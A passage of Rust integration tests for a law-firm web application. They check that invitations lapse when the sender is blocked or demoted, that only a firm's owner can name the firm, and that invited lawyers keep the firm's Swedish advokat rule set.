    let invitation = tokio::spawn(async move {
        as_ada
            .form(
                "/api/firm/invite_member",
                &[("email", "late@firm.se"), ("role", "member")],
            )
            .await
            .status()
    });
    tokio::time::sleep(std::time::Duration::from_millis(300)).await;
    let as_owner = Browser {
        client: owner.client.clone(),
        base: owner.base.clone(),
    };
    let id = ada_id.clone();
    let block = tokio::spawn(async move {
        as_owner
            .form("/api/firm/block_member", &[("id", &id)])
            .await
            .status()
    });
    tokio::time::sleep(std::time::Duration::from_millis(300)).await;
    holder.commit().await.expect("release");
    let (invited, blocked) = (invitation.await.expect("task"), block.await.expect("task"));
    assert!(blocked.is_success(), "block: {blocked}");
    assert!(
        invited.is_success() || invited == 403 || invited == 401,
        "the invitation is sent before the block, or refused after it: {invited}"
    );
    let open: i64 = sqlx::query_scalar(
        "SELECT COUNT(*) FROM invitations WHERE invited_by = $1 AND accepted_at_us IS NULL AND revoked_at_us IS NULL",
    )
    .bind(&ada_id)
    .fetch_one(&app.db().pool)
    .await
    .expect("count");
    assert_eq!(open, 0, "nothing Ada sent stays open once she is blocked");

    // The owner invites an admin and a member, then hands ownership to Bo: as an admin now,
    // they keep the member's invitation and lose the admin's.
    let bo = invite_and_join(&app, &owner, "bo@firm.se", "admin").await;
    let as_admin = invite(&app, &owner, "future-admin@firm.se", "admin").await;
    let as_member = invite(&app, &owner, "future-member@firm.se", "member").await;
    let bo_id = user_id(&app, "bo@firm.se").await;
    assert!(
        owner
            .form(
                "/api/firm/change_role",
                &[("id", &bo_id), ("role", "owner")]
            )
            .await
            .status()
            .is_success()
    );
    let gone = app.browser().get(&as_admin).await;
    assert_eq!(gone.headers()["location"], "/sign-in?invited=expired");
    let kept = app.browser().get(&as_member).await;
    let location = kept.headers()["location"].to_str().expect("ascii");
    assert!(location.starts_with("/sign-in?invitation="), "{location}");
    // The same when an owner is demoted to admin by another.
    let again = invite(&app, &bo, "bos-admin@firm.se", "admin").await;
    let owner_id = user_id(&app, "owner@firm.se").await;
    sqlx::query("UPDATE users SET role = 'owner' WHERE id = $1")
        .bind(&owner_id)
        .execute(&app.db().pool)
        .await
        .expect("a second owner");
    let owner = app.firm_owner("owner@firm.se").await;
    assert!(
        owner
            .form(
                "/api/firm/change_role",
                &[("id", &bo_id), ("role", "admin")]
            )
            .await
            .status()
            .is_success()
    );
    let gone = app.browser().get(&again).await;
    assert_eq!(gone.headers()["location"], "/sign-in?invited=expired");
    app.stop().await;
}
on_both_backends!(invitations_do_not_outlive_their_senders_rights);

/// A new firm is named by its owner on the first profile (not after the email domain),
/// and an invited person's first profile starts from the firm's rule set, which saving
/// keeps: a biträdande jurist at a firm on the advokat rules stays on them.
async fn a_new_firm_is_named_and_an_invitee_keeps_the_firms_rule_set(backend: Backend) {
    let app = TestApp::spawn(backend).await;
    let owner = app.signed_in_browser("lina@lindadvokat.example").await;
    let profile: Value = owner
        .form("/api/account/get_profile", &[])
        .await
        .json()
        .await
        .expect("json");
    assert_eq!(profile["names_firm"], true);
    let page = owner.page("/account/profile").await;
    assert!(page.contains(r#"name="firm_name""#), "asked: {page}");
    let mut form = vec![
        ("full_name", "Lina Lind"),
        ("title", "advokat"),
        ("admission_date", "2010-01-01"),
        ("birth_date", ""),
        ("rule_set", ""),
        ("language", "en"),
        ("names_firm", "1"),
        ("firm_name", ""),
        ("org_number", "556016-0680"),
    ];
    // Without a name nothing is saved, and the name field says so.
    let refused = owner
        .html_form("/api/account/update_profile", &form, "/account/profile")
        .await;
    assert_eq!(refused.status(), 422);
    let page = refused.text().await.expect("body");
    assert!(page.contains(r#"id="firm_name-error""#), "{page}");
    assert!(page.contains(r#"value="Lina Lind""#), "kept: {page}");
    form[7] = ("firm_name", "Lind Advokatbyrå AB");
    let saved = owner.form("/api/account/update_profile", &form).await;
    assert!(saved.status().is_success(), "{}", saved.status());
    let (name, org): (String, String) = sqlx::query_as(
        "SELECT f.name, f.org_number FROM firms f JOIN users u ON u.firm_id = f.id WHERE u.email_index = $1",
    )
    .bind(crate::helpers::email_index("lina@lindadvokat.example"))
    .fetch_one(&app.db().pool)
    .await
    .expect("firm");
    assert_eq!(
        (name.as_str(), org.as_str()),
        ("Lind Advokatbyrå AB", "556016-0680")
    );
    assert!(
        !owner
            .page("/account/profile")
            .await
            .contains(r#"name="firm_name""#)
    );

    // The invitation names the firm, not the domain.
    let path = invite(&app, &owner, "bo@lindadvokat.example", "member").await;
    let (_, mail) = app
        .last_mail("bo@lindadvokat.example")
        .await
        .expect("invitation");
    assert!(mail.contains("Lind Advokatbyrå AB"), "{mail}");
    let bo = join_by_link(&app, &path, "bo@lindadvokat.example").await;
    let page = bo.page("/account/profile").await;
    assert!(
        !page.contains(r#"name="firm_name""#),
        "only the owner names the firm"
    );
    assert!(
        page.contains(r#"<option value="se-advokat" selected"#),
        "{page}"
    );
    let bo_form = [
        ("full_name", "Bo Berg"),
        ("title", "bitradande_jurist"),
        ("admission_date", ""),
        ("birth_date", ""),
        ("rule_set", "se-advokat"),
        ("language", "en"),
    ];
    assert!(
        bo.form("/api/account/update_profile", &bo_form)
            .await
            .status()
            .is_success()
    );
    let rule_set: String = sqlx::query_scalar("SELECT rule_set FROM users WHERE email_index = $1")
        .bind(crate::helpers::email_index("bo@lindadvokat.example"))
        .fetch_one(&app.db().pool)
        .await
        .expect("user");
    assert_eq!(rule_set, "se-advokat");
    // A member cannot rename the firm through the profile.
    let mut sneaky = bo_form.to_vec();
    sneaky.push(("firm_name", "Taken Over AB"));
    assert_eq!(
        bo.form("/api/account/update_profile", &sneaky)
            .await
            .status(),
        403
    );
    app.stop().await;
}
on_both_backends!(a_new_firm_is_named_and_an_invitee_keeps_the_firms_rule_set);
